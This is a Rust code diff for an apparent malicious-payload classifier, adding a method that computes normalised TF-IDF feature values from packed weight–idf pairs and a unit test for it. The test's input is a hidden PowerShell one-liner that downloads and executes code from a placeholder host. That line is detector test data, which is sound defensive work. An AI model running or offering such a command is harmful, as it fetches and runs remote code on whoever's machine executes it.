@@ -291,6 +291,24 @@ pub fn row_values(idf: &[f32], f: &Features) -> Vec<f32> {
 }
 
 impl PayloadModel {
+    /// The row's TF-IDF values, as [`row_values`] gives them, read from the weight–idf
+    /// pairs the assessment has just read (the separate idf table would be read cold).
+    pub fn row_values(&self, f: &Features) -> Vec<f32> {
+        if self.pairs.len() != self.weights.len() {
+            return row_values(&self.idf, f);
+        }
+        let mut v: Vec<f32> = f
+            .items
+            .iter()
+            .map(|i| self.pairs.get(i.index as usize).map_or(0.0, |p| p[1]))
+            .collect();
+        let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt();
+        if norm > 0.0 {
+            v.iter_mut().for_each(|x| *x /= norm);
+        }
+        v
+    }
+
     /// The model with its weight–idf pairs built (what loading and training return).
     pub fn packed(mut self) -> PayloadModel {
         self.pairs = self
@@ -592,6 +610,28 @@ mod tests {
                 .collect::<Vec<_>>()
         );
         assert!((view.probability - sigmoid(m.margin(&f))).abs() < 1e-5);
+    }
+
+    #[test]
+    fn row_values_read_from_the_pairs_are_the_idf_tables() {
+        let mut m = tiny();
+        for (i, d) in m.idf.iter_mut().enumerate() {
+            *d = 1.0 + (i % 7) as f32 / 3.0;
+        }
+        let m = m.packed();
+        let a = crate::Analyzer::new(None, crate::VerdictConfig::default()).examine(
+            "powershell -nop -w hidden -c iex (iwr http://x.example/a)",
+            None,
+        );
+        let f = crate::features::extract(&a, &m.features);
+        assert!(f.items.len() > 10);
+        assert_eq!(m.row_values(&f), row_values(&m.idf, &f));
+        // Without the pairs (a model built by hand), the idf table is read.
+        let unpacked = PayloadModel {
+            pairs: Vec::new(),
+            ..m.clone()
+        };
+        assert_eq!(unpacked.row_values(&f), row_values(&m.idf, &f));
     }
 
     #[test]
